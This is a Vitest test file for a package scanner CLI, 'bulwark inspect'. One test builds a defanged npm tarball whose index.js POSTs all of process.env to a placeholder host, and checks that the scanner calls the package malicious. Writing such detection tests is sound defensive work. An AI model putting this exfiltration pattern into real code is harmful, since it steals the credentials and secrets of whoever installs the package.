import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { makeTgz } from '../../src/tarball/testdata/make-tarball.js';
import { makeHome, repoRoot, runCli } from './run-cli.js';

const home = makeHome();
const rules = join(repoRoot, 'src/rules');

describe('bulwark inspect (bundled CLI)', () => {
  it('reads a defanged credential-theft tarball in memory and calls it malicious', async () => {
    const tgz = join(home, 'thief-1.0.0.tgz');
    writeFileSync(
      tgz,
      await makeTgz([
        {
          name: 'package/package.json',
          content: JSON.stringify({ name: 'thief', version: '1.0.0', main: 'index.js' }),
        },
        {
          name: 'package/index.js',
          content: [
            "const https = require('https');",
            'const body = JSON.stringify(process.env);',
            "const req = https.request('https://collector.invalid/e', { method: 'POST' });",
            'req.end(body);',
          ].join('\n'),
        },
      ]),
    );
    const run = runCli(['inspect', tgz, '--format', 'json'], { home });
    expect(run.stderr).toBe('');
    expect(run.status).toBe(1);
    const report = JSON.parse(run.stdout);
    expect(report).toMatchObject({ name: 'thief', version: '1.0.0', verdict: 'malicious' });
    expect(report.capabilities).toEqual(expect.arrayContaining(['env', 'network']));
    const chain = report.findings.find((f: { rule: string }) => f.rule === 'credential-exfil-chain');
    expect(chain).toMatchObject({ severity: 'critical', file: 'index.js', line: 4 });
  });

  it('calls a benign twin clean and exits 0', () => {
    const run = runCli(['inspect', join(rules, 'credential-exfil-chain/testdata/benign'), '-f', 'json'], {
      home,
    });
    expect(run.status).toBe(0);
    expect(JSON.parse(run.stdout).verdict).toBe('clean');
  });

  it('prints the verdict first in the table report', () => {
    const run = runCli(
      ['inspect', join(rules, 'install-script-download-exec/testdata/malicious/curl-pipe-sh')],
      { home },
    );
    expect(run.status).toBe(1);
    expect(run.stdout.split('\n')[0]).toMatch(/: MALICIOUS \(score \d+\.\d\/10\)$/);
  });

  it('answers bad targets with one line and exit code 2', () => {
    const notTar = join(home, 'not-a-tarball.tgz');
    writeFileSync(notTar, 'plain text, not gzip');
    for (const target of [notTar, './missing-dir', 'Not A Name!']) {
      const run = runCli(['inspect', target, '--offline'], { home });
      expect(run.status, target).toBe(2);
      expect(run.stderr.split('\n').filter(Boolean), target).toHaveLength(1);
      expect(run.stderr).not.toMatch(/\n\s+at /);
    }
  });
});
